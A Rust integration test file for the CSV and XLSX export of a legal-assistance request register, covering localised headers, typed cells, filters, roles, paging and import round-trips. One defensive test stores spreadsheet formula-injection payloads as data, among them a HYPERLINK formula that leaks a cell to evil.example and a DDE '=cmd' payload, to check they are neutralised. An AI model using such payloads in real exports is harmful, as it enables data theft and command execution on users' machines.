//! `GET /requests/export`: the register as CSV and XLSX, read back by
//! independent readers (Python's `csv` module and openpyxl, through
//! `tests/read_sheet.py`): headers in the asked language, typed cells,
//! the frozen and filterable header row, formulas that never run, the
//! list's filters and order, several pages' worth of rows, the roles, and
//! the register page's link.

use std::io::Write;

use awc::http::header::HeaderMap;
use mla_tracker::domain::{CountryCode, Language, Status};
use mla_tracker::sheet::columns::Column;
use serde_json::{Value, json};

use crate::common::{self, TestApp, draft_body, id_of, sent_body, spawn_app};
use crate::web::{Browser, user_with_password};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// An answer as bytes.
struct Download {
    status: u16,
    headers: HeaderMap,
    body: Vec<u8>,
}

impl Download {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }
}

/// GET `path` with `token` and `headers`, the body as bytes.
async fn download(app: &TestApp, path: &str, token: &str, headers: &[(&str, &str)]) -> Download {
    let mut req = awc::Client::default()
        .get(format!("{}{path}", app.address))
        .insert_header(("Authorization", format!("Bearer {token}")))
        .timeout(std::time::Duration::from_secs(300));
    for header in headers {
        req = req.insert_header(*header);
    }
    let mut res = req.send().await.expect("the server answers");
    let body = res.body().limit(256 << 20).await.expect("a body").to_vec();
    Download {
        status: res.status().as_u16(),
        headers: res.headers().clone(),
        body,
    }
}

/// What `tests/read_sheet.py` (openpyxl for `xlsx`, the csv module for
/// `csv`) finds in `bytes`.
fn read(kind: &str, bytes: &[u8]) -> Value {
    let mut file = tempfile::Builder::new()
        .suffix(&format!(".{kind}"))
        .tempfile()
        .expect("a temporary file");
    file.write_all(bytes).expect("the file is written");
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/read_sheet.py");
    let out = std::process::Command::new("python3")
        .arg(script)
        .arg(kind)
        .arg(file.path())
        .output()
        .expect("python3 runs (scripts/test installs it)");
    assert!(
        out.status.success(),
        "{script} {kind} failed (openpyxl missing? run scripts/test, or \
         `python3 -m pip install openpyxl`):\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("the reader prints JSON")
}

/// An export's rows as the reader found them (the header row first).
fn rows(found: &Value) -> &Vec<Value> {
    found["rows"].as_array().expect("rows")
}

/// The headers the export writes in `language`.
fn headers(language: Language) -> Vec<String> {
    Column::all()
        .map(|c| c.header(language).to_string())
        .collect()
}

/// A column's place in a row.
fn at(column: Column) -> usize {
    Column::all()
        .position(|c| c == column)
        .expect("a column of the export")
}

/// The spreadsheet letter of the column at `index` (0 → A, 26 → AA).
fn letter(index: usize) -> String {
    let mut n = index + 1;
    let mut out = Vec::new();
    while n > 0 {
        out.push(b'A' + ((n - 1) % 26) as u8);
        n = (n - 1) / 26;
    }
    out.reverse();
    String::from_utf8(out).unwrap()
}

/// A CSV row's texts.
fn texts(row: &Value) -> Vec<&str> {
    row.as_array()
        .expect("a row")
        .iter()
        .map(|v| v.as_str().expect("CSV cells are text"))
        .collect()
}

/// The export at `query` with the admin token, checked to be a 200 of the
/// format's type, named after today.
async fn export(app: &TestApp, format: &str, query: &str) -> Download {
    let path = format!("/api/v1/requests/export?format={format}&{query}");
    let res = download(app, &path, &app.admin_token, &[]).await;
    assert_eq!(
        res.status,
        200,
        "{path}: {}",
        String::from_utf8_lossy(&res.body)
    );
    let content_type = if format == "csv" {
        "text/csv; charset=utf-8"
    } else {
        XLSX
    };
    assert_eq!(res.header("content-type"), Some(content_type), "{path}");
    assert_eq!(
        res.header("content-disposition").map(str::to_owned),
        Some(format!(
            "attachment; filename=\"requests-{}.{format}\"",
            common::office_today()
        )),
        "{path}"
    );
    res
}

/// The export by reference in `language`.
async fn export_in(app: &TestApp, format: &str, language: Language) -> Download {
    let query = format!("sort=reference&lang={}", language.code());
    export(app, format, &query).await
}

/// The first column (the references) of every row after the header.
fn references(found: &Value) -> Vec<String> {
    rows(found)[1..]
        .iter()
        .map(|row| match &row[0] {
            Value::String(text) => text.clone(),
            cell => cell["value"].as_str().expect("a reference").to_string(),
        })
        .collect()
}

/// A request sent on 12 January 2026 and acknowledged on 2 February, with
/// accents and two measures, and a draft to Germany.
async fn two_requests(app: &TestApp) -> (Value, Value) {
    let mut body = sent_body("PARQUET-2026-0412", "2026-01-12");
    body["reference"] = json!("MLA-A");
    body["title"] = json!("Abus diffusés en direct : identifier les enfants — Élodie");
    let sent = app.create_request(&body).await;
    let sent = app
        .move_to(&id_of(&sent), "acknowledged", "2026-02-02")
        .await;
    let mut body = draft_body("PARQUET-2026-0413");
    body["reference"] = json!("MLA-B");
    body["target_country"] = json!("de");
    body["legal_basis"] = json!("eio_directive");
    let draft = app.create_request(&body).await;
    (sent, draft)
}

#[actix_web::test]
async fn the_csv_opens_with_headers_and_labels_in_the_asked_language() {
    let app = spawn_app().await;
    let (sent, _) = two_requests(&app).await;
    for language in Language::ALL {
        let res = export_in(&app, "csv", language).await;
        assert!(
            res.body.starts_with(b"\xEF\xBB\xBFR"),
            "a byte-order mark, then the header"
        );
        let text = String::from_utf8(res.body.clone()).expect("UTF-8");
        assert_eq!(
            text.matches('\n').count(),
            text.matches("\r\n").count(),
            "every line ends with CRLF"
        );
        assert_eq!(text.matches("\r\n").count(), 3, "the header and two rows");
        let found = read("csv", &res.body);
        let rows = rows(&found);
        assert_eq!(texts(&rows[0]), headers(language));
        let literal = match language {
            Language::Fr => ["Pays requis", "Date d'envoi", "Magistrat", "Statut"],
            Language::En => ["Requested country", "Date sent", "Magistrate", "Status"],
        };
        for header in literal {
            assert!(texts(&rows[0]).contains(&header), "{header}");
        }
        let row = texts(&rows[1]);
        assert_eq!(row[at(Column::Reference)], "MLA-A");
        assert_eq!(row[at(Column::Title)], sent["title"]);
        assert_eq!(row[at(Column::TargetCountry)], "Philippines");
        assert_eq!(
            row[at(Column::Status)],
            Status::Acknowledged.label(language)
        );
        assert_eq!(row[at(Column::SentAt)], "2026-01-12");
        assert_eq!(row[at(Column::AcknowledgedAt)], "2026-02-02");
        assert_eq!(row[at(Column::AnsweredAt)], "");
        assert_eq!(row[at(Column::Measures)].split("; ").count(), 2, "{row:?}");
        let draft = texts(&rows[2]);
        assert_eq!(draft[at(Column::Reference)], "MLA-B");
        assert_eq!(
            draft[at(Column::TargetCountry)],
            CountryCode::parse("DE").unwrap().name_in(language)
        );
        assert_eq!(draft[at(Column::SentAt)], "", "a draft was not sent");
    }
}

#[actix_web::test]
async fn the_xlsx_has_typed_cells_and_a_frozen_filterable_header() {
    let app = spawn_app().await;
    let (sent, _) = two_requests(&app).await;
    for language in Language::ALL {
        let res = export_in(&app, "xlsx", language).await;
        assert_eq!(
            res.header("content-length"),
            Some(res.body.len().to_string().as_str()),
            "the workbook is sent whole, with its length"
        );
        let found = read("xlsx", &res.body);
        assert_eq!(found["sheets"], 1);
        assert_eq!(found["freeze_panes"], "A2", "the header row is frozen");
        let last = letter(Column::all().count() - 1);
        assert_eq!(last, "AA");
        assert_eq!(
            found["auto_filter"],
            format!("A1:{last}3"),
            "the filter covers the header and every row"
        );
        let rows = rows(&found);
        assert_eq!(rows.len(), 3);
        let header: Vec<&str> = rows[0]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| {
                assert_eq!(c["type"], "s", "{c}");
                c["value"].as_str().unwrap()
            })
            .collect();
        assert_eq!(header, headers(language));
        let row = &rows[1];
        assert_eq!(row[at(Column::Reference)]["value"], "MLA-A");
        assert_eq!(row[at(Column::Title)]["type"], "s");
        assert_eq!(row[at(Column::Title)]["value"], sent["title"]);
        assert_eq!(
            row[at(Column::Status)]["value"],
            Status::Acknowledged.label(language)
        );
        for (column, day) in [
            (Column::SentAt, "2026-01-12"),
            (Column::AcknowledgedAt, "2026-02-02"),
            (Column::StatusSince, "2026-02-02"),
        ] {
            let cell = &row[at(column)];
            assert_eq!(cell["date"], day, "{column:?} is a date cell: {cell}");
            let format = cell["format"].as_str().unwrap();
            assert!(
                format.contains("dd") && format.contains("yyyy"),
                "{column:?} shows as a date: {format}"
            );
        }
        assert_eq!(row[at(Column::AnsweredAt)]["value"], Value::Null);
        assert_eq!(rows[2][at(Column::SentAt)]["value"], Value::Null);
        assert_eq!(rows[2][at(Column::SentAt)].get("date"), None);
        // Columns are sized to their contents: the title's is wider than
        // the reference's, and neither is the default.
        let widths = &found["widths"];
        let width = |column| {
            widths[letter(at(column))]
                .as_f64()
                .unwrap_or_else(|| panic!("{column:?} has a width: {widths}"))
        };
        assert!(width(Column::Title) > width(Column::Reference), "{widths}");
        assert!(width(Column::Title) >= 50.0, "{widths}");
    }
}

#[actix_web::test]
async fn text_that_would_run_as_a_formula_is_neutralised_in_both_formats() {
    let app = spawn_app().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Open the file\")",
        "+33 1 23 45 67 89",
        "-1+1 then more",
        "@SUM(A1:A9)",
    ];
    for (i, formula) in formulas.iter().enumerate() {
        let mut body = sent_body(&format!("CASE-{i}"), "2026-01-12");
        body["reference"] = json!(format!("MLA-{i}"));
        body["title"] = json!(formula);
        body["issuing_magistrate"]["name"] = json!(format!("=cmd|' /C calc'!A{i}"));
        app.create_request(&body).await;
    }
    let csv = read("csv", &export(&app, "csv", "sort=reference").await.body);
    let xlsx = read("xlsx", &export(&app, "xlsx", "sort=reference").await.body);
    for (i, formula) in formulas.iter().enumerate() {
        let magistrate = format!("=cmd|' /C calc'!A{i}");
        let row = texts(&rows(&csv)[i + 1]);
        assert_eq!(row[at(Column::Title)], format!("'{formula}"));
        assert_eq!(row[at(Column::Magistrate)], format!("'{magistrate}"));
        let row = &rows(&xlsx)[i + 1];
        for (column, text) in [(Column::Title, *formula), (Column::Magistrate, &magistrate)] {
            let cell = &row[at(column)];
            assert_eq!(
                cell["type"], "s",
                "{column:?} is text, not a formula: {cell}"
            );
            assert_eq!(cell["value"], text, "the text itself, unchanged");
        }
    }
    for row in rows(&xlsx) {
        for cell in row.as_array().unwrap() {
            assert_ne!(cell["type"], "f", "no formula anywhere: {cell}");
        }
    }
}

#[actix_web::test]
async fn the_lists_filters_and_order_choose_the_rows() {
    let app = spawn_app().await;
    for (i, country) in ["ph", "de", "ph", "fr", "ph", "de"].iter().enumerate() {
        let mut body = sent_body(&format!("CASE-{i}"), &format!("2026-01-{:02}", 10 + i));
        body["target_country"] = json!(country);
        if *country != "ph" {
            body["legal_basis"] = json!("eio_directive");
        }
        let record = app.create_request(&body).await;
        if i == 4 {
            app.move_to(&id_of(&record), "executed", "2026-03-01").await;
        }
    }
    for query in [
        "country=PH",
        "country=PH&sort=-sent_at",
        "status=sent&sort=reference",
        "sent_from=2026-01-12&sent_to=2026-01-14&sort=sent_at",
        "q=case-3",
        "",
    ] {
        let expected: Vec<String> = app
            .list_all(query, 200)
            .await
            .iter()
            .map(|r| r["reference"].as_str().unwrap().to_string())
            .collect();
        assert!(!expected.is_empty(), "{query}");
        for format in ["csv", "xlsx"] {
            let found = read(format, &export(&app, format, query).await.body);
            assert_eq!(references(&found), expected, "{format}?{query}");
        }
    }
    let philippines = read("csv", &export(&app, "csv", "country=PH").await.body);
    assert_eq!(rows(&philippines).len(), 4, "the header and three rows");
    for row in &rows(&philippines)[1..] {
        assert_eq!(texts(row)[at(Column::TargetCountry)], "Philippines");
    }
    // The list's parameters are checked as the list checks them; a page's
    // are not the export's.
    for (query, field) in [
        ("format=pdf", "format"),
        ("lang=de", "lang"),
        ("sent_from=2026-02-01&sent_to=2026-01-01", "sent_to"),
        ("limit=10", "limit"),
        ("cursor=abc", "cursor"),
        ("country=ZZ", "country"),
    ] {
        let res = app
            .get(
                &format!("/api/v1/requests/export?{query}"),
                &app.admin_token,
            )
            .await;
        assert_eq!(res.status, 422, "{query}: {res:?}");
        assert!(
            res.body["error"]["fields"].get(field).is_some(),
            "{query}: {res:?}"
        );
    }
}

#[actix_web::test]
async fn whoever_reads_requests_may_export_them_and_no_one_else() {
    let app = spawn_app().await;
    two_requests(&app).await;
    for format in ["csv", "xlsx"] {
        let path = format!("/api/v1/requests/export?format={format}");
        for role in ["clerk", "coordinator", "admin"] {
            let token = app.token_for(role).await;
            assert_eq!(
                download(&app, &path, &token, &[]).await.status,
                200,
                "{role}"
            );
        }
        let analyst = app.token_for("analyst").await;
        let res = app.get(&path, &analyst).await;
        assert_eq!(res.status, 403, "{res:?}");
        let res = app.call(awc::http::Method::GET, &path, None, None).await;
        assert_eq!(res.status, 401, "{res:?}");
    }
}

#[actix_web::test]
async fn the_language_is_the_asked_one_else_the_users_else_the_browsers() {
    let app = spawn_app().await;
    two_requests(&app).await;
    let (user, token) = app.create_user("clerk").await;
    let first_header = |res: Download| -> String {
        let found = read("csv", &res.body);
        texts(&rows(&found)[0]).join("|")
    };
    let english = headers(Language::En).join("|");
    let french = headers(Language::Fr).join("|");
    let path = "/api/v1/requests/export?format=csv";
    let french_browser = [("Accept-Language", "fr-FR,fr;q=0.9,en;q=0.5")];
    assert_eq!(
        first_header(download(&app, path, &token, &[]).await),
        english
    );
    assert_eq!(
        first_header(download(&app, path, &token, &french_browser).await),
        french
    );
    // A choice made in the web pages wins over the browser's…
    let id = user["id"].as_str().unwrap().parse().unwrap();
    app.db
        .write(move |conn| {
            mla_tracker::db::users::set_language(conn, id, Language::En)?;
            Ok::<_, mla_tracker::db::Error>(())
        })
        .await
        .unwrap();
    assert_eq!(
        first_header(download(&app, path, &token, &french_browser).await),
        english
    );
    // …and `lang` over both.
    let asked = format!("{path}&lang=fr");
    assert_eq!(
        first_header(download(&app, &asked, &token, &[]).await),
        french
    );
}

/// More requests than three pages of the export's reads
/// (`EXPORT_PAGE_SIZE`): every one comes out, once, in the list's order;
/// the CSV is streamed (no length known up front).
#[actix_web::test]
async fn a_register_of_several_pages_comes_out_whole_and_in_order() {
    let app = spawn_app().await;
    let count = 3 * mla_tracker::services::export::EXPORT_PAGE_SIZE as u64 + 217;
    app.db
        .write(move |conn| {
            mla_tracker::seed::run(conn, count, 11, common::office_present()).expect("seed");
            Ok::<_, mla_tracker::db::Error>(())
        })
        .await
        .unwrap();
    for query in ["sort=reference", ""] {
        let expected: Vec<String> = app
            .list_all(query, 200)
            .await
            .iter()
            .map(|r| r["reference"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(expected.len() as u64, count);
        let csv = export(&app, "csv", query).await;
        assert_eq!(csv.header("content-length"), None, "the CSV is streamed");
        assert_eq!(references(&read("csv", &csv.body)), expected, "csv?{query}");
        let xlsx = read("xlsx", &export(&app, "xlsx", query).await.body);
        assert_eq!(references(&xlsx), expected, "xlsx?{query}");
        assert_eq!(
            xlsx["auto_filter"],
            format!("A1:AA{}", count + 1),
            "xlsx?{query}"
        );
    }
}

#[actix_web::test]
async fn the_register_page_links_to_the_export_of_its_filters() {
    let app = spawn_app().await;
    two_requests(&app).await;
    let email = user_with_password(&app, "clerk").await;
    let mut browser = Browser::new(&app);
    browser.accept_language = Some("fr");
    browser.sign_in(&email, crate::web::PASSWORD).await;
    let page = browser
        .get("/requests?country=PH&status=&sort=reference")
        .await;
    assert_eq!(page.status, 200);
    // askama writes `&` as `&#38;`.
    let body = page.body.replace("&#38;", "&amp;");
    for format in ["csv", "xlsx"] {
        let link =
            format!("href=\"/requests/export?format={format}&amp;country=PH&amp;sort=reference\"");
        assert!(body.contains(&link), "{link} in {body}");
    }
    let file = browser
        .get("/requests/export?format=csv&country=PH&sort=reference")
        .await;
    assert_eq!(file.status, 200, "{}", file.body);
    assert_eq!(file.header("content-type"), "text/csv; charset=utf-8");
    assert!(
        file.header("content-disposition")
            .starts_with("attachment;")
    );
    let found = read("csv", file.body.as_bytes());
    let rows = rows(&found);
    assert_eq!(
        texts(&rows[0]),
        headers(Language::Fr),
        "the visitor's language"
    );
    assert_eq!(rows.len(), 2, "the filtered rows only: {rows:?}");
    assert_eq!(texts(&rows[1])[at(Column::Reference)], "MLA-A");
    // Invalid filters go back to the register, which names them.
    let bad = browser.get("/requests/export?format=csv&country=ZZ").await;
    assert_eq!(bad.status, 303);
    assert_eq!(bad.location(), "/requests?country=ZZ");
    // An analyst gets the 403 page.
    let analyst = user_with_password(&app, "analyst").await;
    let mut other = Browser::new(&app);
    other.sign_in(&analyst, crate::web::PASSWORD).await;
    assert_eq!(other.get("/requests/export?format=csv").await.status, 403);
}

/// An export imports back as it is: a dry run of the CSV and of the XLSX,
/// in English and in French, finds every request of a varied register
/// unchanged — formula-like and quoted text included.
#[actix_web::test]
async fn an_export_imports_back_without_a_change() {
    let app = spawn_app().await;
    app.db
        .write(|conn| {
            mla_tracker::seed::run(conn, 300, 5, common::office_present()).expect("seed");
            Ok::<_, mla_tracker::db::Error>(())
        })
        .await
        .unwrap();
    for title in ["=HYPERLINK(\"http://x\")", "'quoted", "+33 1 23 45 67 89"] {
        let mut body = sent_body("CASE-ROUND-TRIP", &common::days_ago(30));
        body["title"] = json!(title);
        app.create_request(&body).await;
    }
    let count = app.list_all("", 200).await.len();
    for format in ["csv", "xlsx"] {
        for language in Language::ALL {
            let file = export_in(&app, format, language).await.body;
            let name = format!("requests.{format}");
            let res = crate::imports::upload(
                &app,
                &app.admin_token,
                &name,
                &file,
                &[("dry_run", "true")],
            )
            .await;
            assert_eq!(res.status, 200, "{name} ({language:?}): {res:?}");
            let report = &res.body;
            assert_eq!(report["problems"], json!([]), "{name} ({language:?})");
            assert_eq!(report["changes"], json!([]), "{name} ({language:?})");
            assert_eq!(
                (report["clean"].as_bool(), report["unchanged"].as_u64()),
                (Some(true), Some(count as u64)),
                "{name} ({language:?}): {report}"
            );
        }
    }
}

/// A register exported from one service imports into an empty one with
/// every request's status and the dates the statistics and alerts read:
/// sent, acknowledged, first answered, closed, and why it was abandoned or
/// refused (the drafts are dated the day of the import, and "status since"
/// by the moves the row implies).
#[actix_web::test]
async fn an_export_imports_into_an_empty_register_with_its_statuses_and_dates() {
    let from = spawn_app().await;
    from.db
        .write(|conn| {
            mla_tracker::seed::run(conn, 600, 9, common::office_present()).expect("seed");
            Ok::<_, mla_tracker::db::Error>(())
        })
        .await
        .unwrap();
    let file = export_in(&from, "csv", Language::Fr).await.body;
    let to = spawn_app().await;
    let res = crate::imports::upload(&to, &to.admin_token, "registre.csv", &file, &[]).await;
    assert_eq!(res.status, 200, "{res:?}");
    assert_eq!(res.body["problems"], json!([]));
    assert_eq!(
        (res.body["written"].as_bool(), res.body["created"].as_u64()),
        (Some(true), Some(600))
    );
    let dates = |records: Vec<Value>| -> Vec<Value> {
        let mut out: Vec<Value> = records
            .iter()
            .map(|r| {
                json!([
                    r["reference"],
                    r["status"],
                    r["sent_at"],
                    r["acknowledged_at"],
                    r["first_response_at"],
                    r["closed_at"],
                    r["abandonment_reason"],
                    r["refusal_ground"],
                    r["target_country"],
                    r["case_reference"]
                ])
            })
            .collect();
        out.sort_by_key(|v| v[0].as_str().unwrap().to_string());
        out
    };
    assert_eq!(
        dates(to.list_all("", 200).await),
        dates(from.list_all("", 200).await)
    );
}
